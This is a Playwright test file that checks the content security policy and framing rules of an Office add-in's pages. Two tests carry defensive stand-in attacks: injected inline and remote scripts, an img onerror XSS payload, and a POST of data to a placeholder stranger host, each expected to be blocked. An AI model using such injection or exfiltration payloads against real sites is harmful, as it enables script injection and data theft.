import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from './lib/browser';
import { startDevServers, type DevServers } from './lib/dev-servers';
import { root } from './lib/sources';

const OFFICE_JS = /^https:\/\/appsforoffice\.(microsoft\.com|cdn\.partner\.office365\.cn)\/.*?lib\/1\/hosted\/([\w./-]+)/;
/** Microsoft's own library, from its package, in the place of its address. */
const LIBRARY = join(root, 'node_modules/@microsoft/office-js/dist');
/** office.js would report to Microsoft through a frame. The pages forbid it, and nothing is the worse for that. */
const DIAGNOSTICS = 'frame-src https://telemetryservice.firstpartyapps.oaspapps.com';
/** Where the pages seem to come from, so that the browser sees two sites of the network, as it will. */
const OURS = 'https://kaohe.example.org';

let servers: DevServers;
let browser: BrowserContext;
beforeAll(async () => {
  servers = await startDevServers();
  browser = await launchBrowser();
  await browser.route(OFFICE_JS, (route) => {
    const file = join(LIBRARY, OFFICE_JS.exec(route.request().url())![2]!);
    return existsSync(file) ? route.fulfill({ contentType: 'text/javascript', path: file }) : route.abort();
  });
  await browser.route(`${OURS}/**`, async (route) => {
    const { pathname } = new URL(route.request().url());
    // A page that was closed meanwhile needs no answer.
    await route.fetch({ url: servers.web + pathname }).then((response) => route.fulfill({ response })).catch(() => undefined);
  });
});
afterAll(async () => {
  await browser?.close();
  await servers?.stop();
});

interface Watched {
  readonly page: Page;
  /** What the policy forbade: directive and what it was about. */
  readonly violations: string[];
}

async function watched(path: string): Promise<Watched> {
  const page = await browser.newPage();
  const violations: string[] = [];
  await page.exposeFunction('violated', (what: string) => void violations.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      (window as unknown as { violated(what: string): void }).violated(`${effectiveDirective} ${blockedURI} ${sample}`);
    });
  });
  await page.goto(servers.web + path, { timeout: 30_000 });
  return { page, violations };
}

describe('pages under their content security policy', () => {
  it.each(['/taskpane.html', '/taskpane.21vianet.html'])('%s shows its pane, and asks for nothing forbidden', async (path) => {
    const { page, violations } = await watched(path);
    await page.locator('#pane > *').first().waitFor({ timeout: 20_000 });
    await page.waitForTimeout(1500);
    expect(await page.evaluate(() => typeof Office)).toBe('object');
    expect(violations.filter((each) => !each.startsWith(DIAGNOSTICS))).toEqual([]);
    await page.close();
  });

  it.each(['/', '/preview.html'])('%s opens a workbook, calculates it and shows its pane, and asks for nothing forbidden', async (path) => {
    const { page, violations } = await watched(path);
    await page.waitForFunction(() => window.preview !== undefined, undefined, { timeout: 30_000 });
    await page.locator('#pane > *').first().waitFor({ timeout: 20_000 });
    await page.waitForTimeout(1500);
    expect(violations).toEqual([]);
    await page.close();
  });

  it('the pages about the documents load without anything forbidden', async () => {
    const { page, violations } = await watched('/rulebooks/index.html');
    await page.waitForTimeout(200);
    expect(violations).toEqual([]);
    await page.close();
  });

  it('run no script that was written into them, and load none of a stranger', async () => {
    const { page, violations } = await watched('/taskpane.html');
    await page.evaluate(() => {
      for (const fill of [(s: HTMLScriptElement) => (s.text = 'window.ran = true'), (s: HTMLScriptElement) => (s.src = 'https://stranger.example/x.js')]) {
        const script = document.createElement('script');
        fill(script);
        document.body.append(script);
      }
      document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.png" onerror="window.ran = true">');
    });
    await expect.poll(() => violations.length, { timeout: 5000 }).toBeGreaterThanOrEqual(3);
    expect(await page.evaluate(() => (window as { ran?: boolean }).ran)).toBeUndefined();
    await page.close();
  });

  it('send nothing to a stranger', async () => {
    const { page, violations } = await watched('/preview.html');
    const outcome = await page.evaluate(() => fetch('https://stranger.example/', { method: 'POST', body: 'facts' }).then(() => 'sent', () => 'held back'));
    expect(outcome).toBe('held back');
    await expect.poll(() => violations.join('\n'), { timeout: 5000 }).toContain('connect-src https://stranger.example');
    await page.close();
  });
});

describe('framing', () => {
  it.each<[string, string, boolean]>([
    ['Excel on the web', 'https://excel.officeapps.live.com/', true],
    ['Excel on the web of 21Vianet', 'https://excel.partner.officewebapps.cn/', true],
    ['SharePoint', 'https://county.sharepoint.com/', true],
    ['a stranger', 'https://stranger.example/', false],
    ['a stranger that is called like Office', 'https://officeapps.live.com.stranger.example/', false],
  ])('by %s', async (_who, host, shown) => {
    expect(await framed(host, '/taskpane.html')).toBe(shown);
  });

  it('of the preview is for nobody, not even Office', async () => {
    expect(await framed('https://excel.officeapps.live.com/', '/preview.html')).toBe(false);
  });
});

/** Whether a page of that host that frames ours gets to see it loaded. */
async function framed(host: string, path: string): Promise<boolean> {
  const page = await browser.newPage();
  await page.route(host, (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${OURS}${path}"></iframe>` }));
  // What our page itself fetches from elsewhere is not waited for.
  await page.goto(host, { waitUntil: 'domcontentloaded' });
  const framed = async (): Promise<boolean | null> => {
    const frame = page.frames().find((each) => each !== page.mainFrame());
    if (frame?.url().startsWith('chrome-error:')) return false;
    return ((await frame?.locator('#pane').count().catch(() => 0)) ?? 0) > 0 ? true : null;
  };
  await expect.poll(framed, { timeout: 15_000 }).not.toBeNull();
  const shown = (await framed()) === true;
  await page.close();
  return shown;
}
